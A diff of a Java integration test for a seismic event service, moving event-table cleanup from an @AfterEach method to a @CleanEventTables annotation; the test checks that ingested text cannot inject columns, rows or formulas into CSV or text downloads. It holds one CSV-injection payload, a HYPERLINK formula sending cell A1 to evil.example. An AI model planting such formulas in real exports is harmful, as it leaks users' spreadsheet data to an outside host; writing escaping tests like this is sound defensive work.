@@ -3,13 +3,12 @@ package dev.celestial.fdsn;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.fail;
 
+import dev.celestial.support.CleanEventTables;
 import dev.celestial.support.IntegrationTest;
-import dev.celestial.support.TestDatabase;
 import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.http.MediaType;
@@ -21,6 +20,7 @@ import tools.jackson.databind.node.ObjectNode;
 
 /** Text one client ingested cannot forge columns, rows or spreadsheet formulas in another's text or CSV download. */
 @IntegrationTest
+@CleanEventTables
 class FdsnEscapingIntegrationTests {
 
     static final String FORMULA = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";
@@ -33,11 +33,6 @@ class FdsnEscapingIntegrationTests {
 
     @Autowired
     JsonMapper json;
-
-    @AfterEach
-    void clean() {
-        TestDatabase.get().cleanEventTables();
-    }
 
     /** Hostile events in USGS GeoJSON, whose extras (type, nst, ...) take any JSON a client sends. */
     String ingestHostile() {
